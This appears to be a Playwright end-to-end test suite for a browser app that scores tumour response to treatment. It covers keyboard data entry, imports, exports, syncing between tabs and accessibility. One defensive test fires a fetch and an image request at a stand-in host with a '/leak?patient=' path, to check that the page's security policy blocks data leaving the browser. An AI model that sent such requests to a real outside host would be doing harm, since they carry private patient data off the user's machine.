/**
 * The app as a user meets it: built by vite, served by vite preview on 127.0.0.1, driven in
 * Debian's chromium (playwright-core; browsers cannot be downloaded here). Screenshots go to
 * test/e2e/artifacts/ (gitignored) and docs/screenshot.png.
 */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { BrowserContext, Page } from 'playwright-core'
import { ARTIFACTS, docsPicture, focusedName, openApp, seriousAxeViolations, type AppSession } from './browser.ts'

const OUT_DIR = join(ARTIFACTS, 'dist')

let app: AppSession
let baseUrl: string
let context: BrowserContext
let page: Page
const offsiteRequests: string[] = []
/** Content-Security-Policy violations reported by any page or frame (chromium logs each as a console error). */
const cspViolations: string[] = []
/** Requests that failed, with chromium's reason (a request the policy blocked fails with "csp"). */
const failedRequests = new Map<string, string>()

beforeAll(async () => {
  app = await openApp(OUT_DIR, 4317)
  ;({ baseUrl, context } = app)
  // Patient data never leaves the browser: every request of every page and frame must go to the app's own origin.
  context.on('request', (r) => {
    if (!r.url().startsWith(baseUrl) && !/^(data|blob|about):/.test(r.url())) offsiteRequests.push(r.url())
  })
  context.on('requestfailed', (r) => failedRequests.set(r.url(), r.failure()?.errorText ?? ''))
  const watch = (p: Page) => p.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) cspViolations.push(m.text())
  })
  context.on('page', watch)
  page = app.page
  watch(page)
  page.on('pageerror', (e) => {
    throw e
  })
  await page.goto(baseUrl)
})

afterAll(() => app?.close())

const shot = (name: string) => page.screenshot({ path: join(ARTIFACTS, `${name}.png`), fullPage: true })

/** Presses Tab until the focused element has this accessible name: the keyboard is the only way around. */
async function tabTo(name: string | RegExp) {
  for (let i = 0; i < 400; i++) {
    await page.keyboard.press('Tab')
    const focused = await focusedName(page)
    if (typeof name === 'string' ? focused === name : name.test(focused)) return
  }
  throw new Error(`Tab never reached ${String(name)}`)
}

/** Types one grid row across the timepoint columns (null leaves a cell as it is), then goes to the next row's first cell. */
async function typeRow(values: (string | null)[]) {
  for (const [i, value] of values.entries()) {
    if (value !== null) await page.keyboard.type(value)
    if (i < values.length - 1) await page.keyboard.press('ArrowRight')
  }
  await page.keyboard.press('ArrowDown')
  for (let i = 1; i < values.length; i++) await page.keyboard.press('ArrowLeft')
}

const cell = (label: string) => page.getByLabel(label, { exact: true })
const liveResponse = (criterion: string, timepoint: string) => page.locator('.live-results').getByRole('button', { name: new RegExp(`^${criterion} at ${timepoint}: `) }).locator('.resp')

async function expectNoSeriousAxeViolations(screen: string) {
  const violations = await seriousAxeViolations(page)
  writeFileSync(join(ARTIFACTS, `axe-${screen}.json`), JSON.stringify(violations, null, 2))
  expect(violations, screen).toEqual([])
}

describe('Caliper in chromium', () => {
  it('opens with the sample case and its results; this is the README screenshot', async () => {
    await expect.poll(() => liveResponse('Choi', 'Week 7').first().textContent()).toBe('PR')
    await shot('01-sample-entry')
    await page.setViewportSize({ width: 1440, height: 820 })
    await page.screenshot({ path: docsPicture('screenshot.png') })
    await page.setViewportSize({ width: 1440, height: 900 })
    await expectNoSeriousAxeViolations('entry')
  })

  it('enters a three-lesion, three-timepoint case by keyboard alone', async () => {
    await tabTo('Library')
    await page.keyboard.press('Enter')
    await tabTo('New case')
    await page.keyboard.press('Enter')
    await tabTo('Patient ID')
    await page.keyboard.type('E2E-001')
    await page.keyboard.press('Tab')
    await page.keyboard.type('GIST')

    // The baseline's contrast phase first, so new timepoints copy it.
    await tabTo('Contrast phase of Baseline')
    await page.keyboard.type('a')
    for (let i = 0; i < 2; i++) {
      await tabTo('+ Timepoint')
      await page.keyboard.press('Enter')
    }
    for (const [role, name, organ] of [
      ['Target', 'Liver segment VI', 'liver'],
      ['Target', 'Peritoneal mass', 'peritoneum'],
      ['Non-target', 'Omental nodules', 'omentum'],
    ] as const) {
      await tabTo(`+ ${role} lesion`)
      await page.keyboard.press('Enter') // focus lands on the new lesion's name
      await page.keyboard.type(name)
      await page.keyboard.press('Tab')
      await page.keyboard.type(organ)
    }

    await tabTo('Date of Baseline')
    await typeRow(['2026-01-05', '2026-03-02', '2026-04-27'])
    await typeRow(['Baseline', 'Week 8', 'Week 16'])
    await typeRow([null, null, null]) // modality: CT, copied
    await typeRow([null, null, null]) // contrast phase: arterial, copied
    await typeRow(['120', '120', '120'])
    await typeRow([null, null, null]) // slice thickness: not given
    await typeRow([null, null, null]) // non-measurable disease (WHO only; shown once a non-target lesion exists): not estimated
    for (const [sizes, hu] of [
      [['50', '47', '40'], ['60', '42', '40']],
      [['30', '28', '24'], ['50', '36', '34']],
    ]) {
      await typeRow(sizes!) // long axis
      await typeRow([null, null, null]) // short axis
      await typeRow(hu!)
      await typeRow([null, null, null]) // cavity
      await typeRow([null, null, null]) // status: "measured" from the long axis
      await typeRow([null, null, null]) // findings
    }
    await typeRow(['p', 'p', 'p']) // non-target status: present

    await expect.poll(() => liveResponse('RECIST 1.1', 'Week 8').first().textContent()).toBe('SD')
    expect(await liveResponse('RECIST 1.1', 'Week 16').first().textContent()).toBe('SD')
    expect(await liveResponse('Choi', 'Week 8').first().textContent()).toBe('PR')
    expect(await liveResponse('Choi', 'Week 16').first().textContent()).toBe('PR')
    expect(await liveResponse(String.raw`Modified Choi \(Nathan 2010\)`, 'Week 8').first().textContent()).toBe('SD')
    expect(await liveResponse(String.raw`Modified Choi \(Nathan 2010\)`, 'Week 16').first().textContent()).toBe('PR')
    await expect.poll(() => page.locator('.problems').count()).toBe(0)
    await shot('02-keyboard-entry')
  })

  it('finds the case intact after a reload', async () => {
    await page.reload()
    expect(await page.getByLabel('Patient ID', { exact: true }).inputValue()).toBe('E2E-001')
    expect(await cell('L2 attenuation (HU) at Week 16').inputValue()).toBe('34')
    expect(await cell('N1 status at Week 16').inputValue()).toBe('present')
    expect(await liveResponse(String.raw`Modified Choi \(Nathan 2010\)`, 'Week 16').first().textContent()).toBe('PR')
  })

  it('shows the results screen with an explanation', async () => {
    await page.getByRole('button', { name: 'Results', exact: true }).click()
    await page.getByRole('button', { name: /^Modified Choi \(Nathan 2010\) at Week 16/ }).click()
    await expect.poll(() => page.getByRole('region', { name: /Modified Choi \(Nathan 2010\) at Week 16/ }).textContent()).toMatch(/Deciding rule/)
    await shot('03-results')
    await expectNoSeriousAxeViolations('results')
  })

  it('shows the caveats screen', async () => {
    await page.getByRole('button', { name: 'Caveats', exact: true }).click()
    await expect.poll(() => page.getByRole('heading', { name: 'Caveats and findings' }).count()).toBe(1)
    await shot('04-caveats')
    await expectNoSeriousAxeViolations('caveats')
  })

  it('refuses a malformed file, lists its problems and leaves the library unchanged', async () => {
    await page.getByRole('button', { name: 'Library', exact: true }).click()
    // The Library screen loads on first use: read its rows once they are there.
    await page.locator('.library-table tbody tr').first().waitFor()
    const rowsBefore = await page.locator('.library-table tbody tr').allTextContents()
    const storedBefore = await page.evaluate(() => localStorage.getItem('caliper'))
    await page.getByLabel('Case file to import').setInputFiles({
      name: 'broken.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify({ format: 'tumor-response-case', version: 1, patient: { id: '' }, timepoints: [], lesions: [{ id: 'L1' }] })),
    })
    const alert = page.getByRole('alert')
    await expect.poll(() => alert.textContent()).toMatch(/broken\.json was not imported/)
    const problems = await alert.locator('li').allTextContents()
    // Named as the user sees them, never by JSON path (those belong to the command line).
    expect(problems).toContain('Patient ID: must be a non-empty patient id')
    expect(problems).toContain('Timepoints: must list at least the baseline timepoint')
    expect(problems.some((p) => p.startsWith('L1 · organ: '))).toBe(true)
    expect(await page.locator('.library-table tbody tr').allTextContents()).toEqual(rowsBefore)
    expect(await page.evaluate(() => localStorage.getItem('caliper'))).toBe(storedBefore)
    await shot('05-library-import-error')
    await expectNoSeriousAxeViolations('library')
  })

  it('exports the case, draws and downloads the plots, prints the report and shows the cohort', async () => {
    const download = async (click: () => Promise<void>) => {
      const [file] = await Promise.all([page.waitForEvent('download'), click()])
      return file.suggestedFilename()
    }
    await page.getByRole('button', { name: 'Library', exact: true }).click()
    await page.getByRole('button', { name: /^Open a copy of the example: / }).first().click()
    expect(await download(() => page.getByRole('button', { name: 'Export JSON' }).click())).toMatch(/\.json$/)
    await page.getByRole('button', { name: 'Documents', exact: true }).click()
    const svg = page.getByRole('button', { name: /as SVG$/ })
    await expect.poll(() => svg.count(), { timeout: 60_000 }).toBeGreaterThan(0)
    expect(await download(() => svg.first().click())).toMatch(/\.svg$/)
    expect(await download(() => page.getByRole('button', { name: /as PNG$/ }).first().click())).toMatch(/\.png$/)
    expect(await download(() => page.getByRole('button', { name: 'Download CSV' }).click())).toMatch(/\.csv$/)
    expect(await download(() => page.getByRole('button', { name: 'Download report (HTML)' }).click())).toMatch(/\.html$/)
    await page.getByRole('button', { name: 'Print report' }).click()
    const report = page.frameLocator('iframe[title="Report for printing"]')
    await expect.poll(() => report.locator('h1').count()).toBeGreaterThan(0)
    // The report's own stylesheet applies inside the frame (the policy allows it; nothing else).
    expect(await report.locator('body').evaluate((b) => getComputedStyle(b).fontFamily)).not.toBe(await page.evaluate(() => getComputedStyle(document.createElement('p')).fontFamily))
    await page.getByRole('button', { name: 'Cohort', exact: true }).click()
    await expect.poll(() => page.getByRole('heading', { name: /^Cohort: \d+ patients?$/ }).count()).toBe(1)
    for (const tab of await page.getByRole('group', { name: 'Plot' }).getByRole('button').all()) await tab.click()
    await page.getByRole('button', { name: 'Library', exact: true }).click()
  })

  it('two tabs of one browser see each other’s edits, and neither overwrites the other', async () => {
    await page.getByRole('button', { name: 'New case' }).click()
    const other = await context.newPage()
    await other.goto(baseUrl)
    const id = (p: Page) => p.getByLabel('Patient ID', { exact: true })
    const diagnosis = (p: Page) => p.getByLabel('Diagnosis', { exact: true })
    await id(page).fill('TWO-TABS')
    await expect.poll(() => id(other).inputValue()).toBe('TWO-TABS')
    await diagnosis(other).fill('Ewing sarcoma')
    await expect.poll(() => diagnosis(page).inputValue()).toBe('Ewing sarcoma')
    await other.reload()
    expect(await id(other).inputValue()).toBe('TWO-TABS')
    expect(await diagnosis(other).inputValue()).toBe('Ewing sarcoma')
    await other.close()
  })

  it('labels the PET-CT rows, bone findings, further increase and the new-lesion follow-up grid (axe)', async () => {
    await cell('Modality of Baseline').selectOption('PET-CT')
    for (let i = 0; i < 2; i++) await page.getByRole('button', { name: '+ Timepoint' }).click() // PET-CT, copied
    await page.getByRole('button', { name: '+ Target lesion' }).click()
    await page.getByRole('button', { name: '+ Non-target lesion' }).click()
    await page.getByRole('group', { name: 'Lesion N1' }).getByLabel('Kind', { exact: true }).selectOption('bone')
    await page.getByRole('button', { name: '+ New lesion' }).click()
    await page.getByRole('group', { name: 'New lesion 1' }).getByLabel('Seen at', { exact: true }).selectOption('t1')
    await cell('L1 long axis (mm) at Timepoint 2').fill('12 + 8.5')
    await cell('New lesion 1 long axis (mm) at Timepoint 3').fill('14')
    expect(await cell('L1 long axis (mm) at Timepoint 2').inputValue()).toBe('12 + 8.5')
    for (const label of ['Liver SULmean of Timepoint 2', 'L1 SULpeak at Timepoint 3', 'N1 further increase at Baseline', 'N1 TLG at Baseline']) expect(await cell(label).count(), label).toBe(1)
    expect(await page.getByLabel(/^N1 bone findings at Timepoint 2: none$/).count()).toBe(1)
    await shot('06-pet-bone-new-lesions')
    await expectNoSeriousAxeViolations('entry-added-fields')
  })

  it('made no request outside its own origin, and broke no rule of its Content-Security-Policy', () => {
    expect(offsiteRequests).toEqual([])
    expect(cspViolations).toEqual([])
  })

  it('has a Content-Security-Policy that blocks any other origin', async () => {
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
    expect(policy).toMatch(/default-src 'self'/)
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/)
    const blocked = await page.evaluate(async () => {
      const violations: string[] = []
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective))
      const fetched = await fetch('http://192.0.2.1/leak?patient=x').then(() => 'sent', () => 'refused')
      const image = await new Promise<string>((done) => {
        const img = new Image()
        img.onload = () => done('loaded')
        img.onerror = () => done('refused')
        img.src = 'http://192.0.2.1/leak.png'
      })
      // The policy reports its violations as events after the refusal: wait for both.
      for (let waited = 0; violations.length < 2 && waited < 30_000; waited += 20) await new Promise((r) => setTimeout(r, 20))
      return { fetched, image, violations }
    })
    expect(blocked).toEqual({ fetched: 'refused', image: 'refused', violations: ['connect-src', 'img-src'] })
    // Chromium may announce the image before the policy refuses it: it must then have failed, never been sent.
    for (const url of offsiteRequests) expect([url, failedRequests.get(url)]).toEqual(['http://192.0.2.1/leak.png', 'csp'])
  })
})
